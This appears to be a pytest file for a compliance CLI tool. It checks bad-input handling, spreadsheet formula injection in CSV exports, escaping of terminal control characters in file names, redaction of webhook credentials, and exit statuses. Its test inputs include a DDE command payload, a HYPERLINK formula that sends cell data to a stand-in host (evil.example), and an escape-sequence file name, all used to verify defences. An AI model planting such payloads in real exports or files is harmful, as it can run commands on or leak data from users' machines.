"""Issue 14 at the edges: `compliance map`'s bad-input policy (defect 6), output injection (8), leaks and
permissions (9), failures that change the exit status (10), and `compliance runs` (5)."""

from __future__ import annotations

import csv
import json
import os
import stat
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from compliance.alerts.notify import WebhookConfig, redact_url, send_webhook
from compliance.cli import cli
from compliance.cli.options import printable
from compliance.errors import NotificationError
from compliance.spreadsheet import safe_cell


def _invoke(*args: Any, **kwargs: Any) -> Any:
    return CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False, **kwargs)


# -- defect 6: compliance map -----------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def model_dir() -> Path:
    pytest.importorskip("torch")
    from tests.fixtures.classifier.tiny import shared_tiny_classifier

    return shared_tiny_classifier()


BAD_LINES = [
    b'{"id": "latin", "text": "caf\xe9 policy"}',  # latin-1, not UTF-8
    b"\x00\x01\x02\xff binary",
    b'{"id": "s", "text": "lone \\ud800 surrogate"}',
    b'{"id": NaN, "text": "access request"}',
    b'{"id": {"nested": 1}, "text": "access request"}',
    b'{"id": "t"}',
    b"[1, 2]",
]


@pytest.mark.parametrize("batch_size", ["1", "64"])
def test_map_skips_bad_lines_reports_them_and_exits_1(model_dir: Path, batch_size: str) -> None:
    good = [
        json.dumps({"id": f"g{i}", "text": "Laptops use full disk encryption."}).encode() for i in range(5)
    ]
    lines = [good[0], *BAD_LINES[:4], good[1], good[2], *BAD_LINES[4:], good[3], good[4]]
    res = _invoke("map", "--model", model_dir, "--batch-size", batch_size, input=b"\n".join(lines) + b"\n")
    assert res.exit_code == 1
    out = [json.loads(line) for line in res.stdout.splitlines()]  # every output line is valid JSON
    assert [o["id"] for o in out] == ["g0", "g1", "g2", "g3", "g4"]  # all good lines, whatever the batch size
    errors = [line for line in res.stderr.splitlines() if line.startswith("error [C101]: stdin:")]
    assert [e.split(":")[2] for e in errors] == ["2", "3", "4", "5", "8", "9", "10"]
    assert "Traceback" not in res.output
    assert "7 input line(s) skipped" in res.stderr


def test_map_text_option_with_a_lone_surrogate(model_dir: Path) -> None:
    res = _invoke("map", "--model", model_dir, "--text", "ok text", "--text", "bad \ud800")
    assert res.exit_code == 1
    assert [json.loads(line)["id"] for line in res.stdout.splitlines()] == [1]
    assert "lone surrogate" in res.stderr


# -- defect 8: output injection --------------------------------------------------------------------------------
def test_safe_cell() -> None:
    for formula in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=x", "\r=x", " =cmd|'/c calc'!A0", "＝1"):
        assert safe_cell(formula) == "'" + formula
    for value in ("Access review", "", "1-2", 3, -2.5, None, True, "tab\there\nand line"):
        assert safe_cell(value) == value
    # control characters a workbook cannot hold (an uploaded file's name may carry them) are replaced
    assert safe_cell("\x02policy\x1b.txt") == "\ufffdpolicy\ufffd.txt"
    assert safe_cell("\x00=1") == "\ufffd=1" and safe_cell("\t\x07=1") == "'\t\ufffd=1"


def test_audit_csv_export_writes_formulas_as_text(tmp_path: Path, model_dir: Path) -> None:
    from compliance.app import LinkQuery, audit_documents, export_links_file
    from compliance.models.classifier import load
    from compliance.store import Store
    from tests.fixtures.classifier.tiny import mini_gdpr

    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "=HYPERLINK(1).txt").write_text(
        '=HYPERLINK("http://evil.example/?"&A1,"Click") staff laptops use encryption and access is reviewed.\n\n'
        "@SUM(1+1) data subject access request is answered within one month by the team.\n",
        encoding="utf-8",
    )
    store = Store(f"sqlite:///{tmp_path / 'c.db'}")
    store.upgrade()
    store.save_law(mini_gdpr())
    report = audit_documents(store, [folder], load(model_dir, device="cpu", bf16=False), relative_to=folder)
    out = tmp_path / "links.csv"
    assert export_links_file(store, out, query=LinkQuery(run=report.run_id)).links > 0
    with out.open(encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert any(c.startswith("'=HYPERLINK") for c in cells) and any(c.startswith("'@SUM") for c in cells)
    as_json = tmp_path / "links.json"
    export_links_file(store, as_json, query=LinkQuery(run=report.run_id))
    assert json.loads(as_json.read_text())[0]["document"].startswith("=HYPERLINK")  # JSON: unchanged
    store.dispose()


def test_file_names_with_control_characters_are_escaped(tmp_path: Path) -> None:
    assert printable("a\x1b[31mred\x1b[0m\nb\r\u202e\udcff") == "a\\x1b[31mred\\x1b[0m\\nb\\r\\u202e\\udcff"
    bad = tmp_path / "evil\x1b]0;owned\x07\nline.docx"
    bad.write_bytes(b"not a zip")
    res = _invoke("ingest", bad, "--database", f"sqlite:///{tmp_path / 'x.db'}")
    assert res.exit_code == 1
    lines = res.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error [C301]:")
    assert (
        "\x1b" not in res.stderr and "\x07" not in res.stderr and "\\x1b]0;owned\\x07\\nline.docx" in lines[0]
    )


# -- defect 9: leaks and permissions ---------------------------------------------------------------------------
def test_webhook_url_credentials_never_shown() -> None:
    url = "https://bot:hunter2@127.0.0.1:9/hook?token=SECRET-TOKEN&v=1"
    assert redact_url(url) == "https://bot:***@127.0.0.1:9/hook?token=***&v=***"
    config = WebhookConfig(url=url, secret="signing-key", retries=0, timeout=0.5)
    assert "hunter2" not in repr(config) and "signing-key" not in repr(config)
    with pytest.raises(NotificationError) as info:
        send_webhook({"x": 1}, config, sleep=lambda s: None)
    assert "hunter2" not in str(info.value) and "SECRET-TOKEN" not in str(info.value)
    assert "https://bot:***@127.0.0.1:9/hook" in str(info.value)


def test_failed_notification_in_json_output_has_no_secret() -> None:
    """What `compliance alerts run --json` prints when the webhook fails (``notification``), and the warning."""
    from types import SimpleNamespace

    from compliance.app.alerts import notify_run

    hook = "https://u:pa55word@127.0.0.1:9/h?token=T0KEN"
    outcome = notify_run(SimpleNamespace(payload=lambda: {"alerts": []}), WebhookConfig(url=hook, retries=0))  # type: ignore[arg-type]
    assert outcome["webhook"] == "failed"
    shown = json.dumps(outcome)
    assert "pa55word" not in shown and "T0KEN" not in shown and "127.0.0.1:9/h" in shown


def test_saved_classifier_is_readable_as_the_umask_allows(model_dir: Path) -> None:
    mask = os.umask(0o022)
    os.umask(mask)
    weights = list(model_dir.rglob("*.safetensors"))
    assert weights
    for path in weights:
        mode = stat.S_IMODE(path.stat().st_mode)
        assert mode & 0o444 == 0o444 & ~mask, (path, oct(mode))  # safetensors wrote 0600 before the fix


# -- defect 10 and issue 13 item 6: exit status and runs -------------------------------------------------------
def test_ingest_exit_status_with_unreadable_files(tmp_path: Path) -> None:
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "ok.txt").write_text("Access rights are reviewed every quarter by the security team.\n")
    (folder / "broken.pdf").write_bytes(b"%PDF-1.4 broken")
    db = f"sqlite:///{tmp_path / 'x.db'}"
    strict = _invoke("ingest", folder, "--database", db)
    assert strict.exit_code == 1 and "error [C301]" in strict.stderr
    assert "(run ingest:1, id 1)" in strict.stdout
    relaxed = _invoke("ingest", folder, "--database", db, "--allow-failures")
    assert relaxed.exit_code == 0 and "(run ingest:2, id 2)" in relaxed.stdout


def test_audit_exit_status_with_unreadable_files(tmp_path: Path, model_dir: Path) -> None:
    from compliance.store import Store
    from tests.fixtures.classifier.tiny import mini_gdpr

    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "ok.txt").write_text(
        "Staff laptops use full disk encryption and access is reviewed every quarter.\n"
    )
    (folder / "broken.docx").write_bytes(b"not a zip")
    db = f"sqlite:///{tmp_path / 'a.db'}"
    store = Store(db)
    store.upgrade()
    store.save_law(mini_gdpr())
    store.dispose()
    strict = _invoke("audit", folder, "--model", model_dir, "--database", db)
    assert strict.exit_code == 1 and "error [C301]" in strict.stderr and "audit run audit:1" in strict.stdout
    relaxed = _invoke("audit", folder, "--model", model_dir, "--database", db, "--allow-failures")
    assert relaxed.exit_code == 0 and "audit run audit:2" in relaxed.stdout


def test_runs_list_reaps_and_show_accepts_kind_and_number(tmp_path: Path) -> None:
    from tests.fixtures import concurrency

    db = f"sqlite:///{tmp_path / 'r.db'}"
    _invoke("db", "upgrade", "--database", db)
    _invoke("ingest", Path(__file__), "--database", db)  # unsupported: a failed ingest run, still numbered
    dead = concurrency.results([concurrency.spawn("abandoned_run", db)])[0]["run"]
    listed = _invoke("runs", "list", "--database", db)
    assert listed.exit_code == 0
    assert f"run audit:1 (id {dead}) marked failed" in listed.stderr
    assert "audit:1" in listed.stdout and "ingest:1" in listed.stdout
    shown = json.loads(_invoke("runs", "show", "audit:1", "--database", db, "--json").stdout)
    assert shown["id"] == dead and shown["status"] == "failed" and "is gone" in shown["error"]
    missing = _invoke("runs", "show", "audit:7", "--database", db)
    assert missing.exit_code == 1 and "error [C402]" in missing.stderr
